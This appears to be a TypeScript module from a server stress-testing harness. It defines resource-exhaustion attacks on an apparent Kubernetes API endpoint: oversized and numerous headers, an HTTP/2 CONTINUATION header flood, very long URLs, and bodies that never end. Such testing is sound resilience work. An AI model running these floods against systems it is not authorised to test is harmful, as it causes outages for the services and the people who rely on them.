/** Too much of everything: headers, addresses, bodies. */
import { type Attack, crowd, type Siege } from "../attack.ts";
import { flags, frame, headerBlock, literal, openHttp2, push, types } from "../frames.ts";
import { answerOf, letGo, openTls, request, say, unconnected } from "../wire.ts";

const maps = "/api/v1/namespaces/default/configmaps";

/** Says that much comes, and sends it for as long as it is taken. */
async function pour(siege: Siege): Promise<void> {
  siege.tally.asked();
  try {
    const socket = await openTls(siege, { protocol: "http/1.1" });
    const ending = answerOf(socket, 5_000);
    const length = `${2 ** 40}`;
    socket.write(
      request("POST", maps, { "content-type": "application/json", "content-length": length }),
    );
    const piece = Buffer.alloc(64 * 1024, "[");
    for (let sent = 0; sent < 16 * 1024 * 1024 && !socket.destroyed; sent += piece.length) {
      await push(socket, piece);
    }
    siege.tally.answered(await ending);
    socket.destroy();
  } catch (error) {
    unconnected(siege, error);
  }
}

/** The whole of a large header block in one frame after the other. */
async function largeBlock(siege: Siege): Promise<void> {
  siege.tally.asked();
  try {
    const socket = await openHttp2(siege);
    const block = Buffer.concat([
      headerBlock("GET", "/api"),
      ...Array.from({ length: 200 }, (_, at) => literal(`x-${at}`, "y".repeat(1_000))),
    ]);
    const size = 16_000;
    for (let at = 0; at < block.length && !socket.destroyed; at += size) {
      const last = at + size >= block.length ? flags.endHeaders : 0;
      const [type, first] = at === 0 ? [types.headers, flags.endStream] : [types.continuation, 0];
      await push(socket, frame(type, first | last, 1, block.subarray(at, at + size)));
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    letGo(siege, socket);
  } catch (error) {
    unconnected(siege, error);
  }
}

export const large: readonly Attack[] = [
  {
    name: "headers of 1 MB",
    run: (siege) =>
      crowd(siege, 4, () =>
        say(siege, request("GET", "/api", { "x-large": "y".repeat(1024 * 1024) })),
      ),
  },
  {
    name: "10 000 headers",
    run: (siege) => {
      const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`x-${at}`, "y"]));
      return crowd(siege, 4, () => say(siege, request("GET", "/api", many)));
    },
  },
  {
    name: "a header block of 200 KB over HTTP/2",
    run: (siege) => crowd(siege, 4, () => largeBlock(siege)),
  },
  {
    name: "addresses of 8 KB to 1 MB",
    run: (siege) => {
      const long = (): string => "/a".repeat(4_000 * (1 + Math.floor(siege.random() * 128)));
      return crowd(siege, 4, () => say(siege, request("GET", `/api${long()}`)));
    },
  },
  { name: "bodies without an end", run: (siege) => crowd(siege, 8, () => pour(siege)) },
];
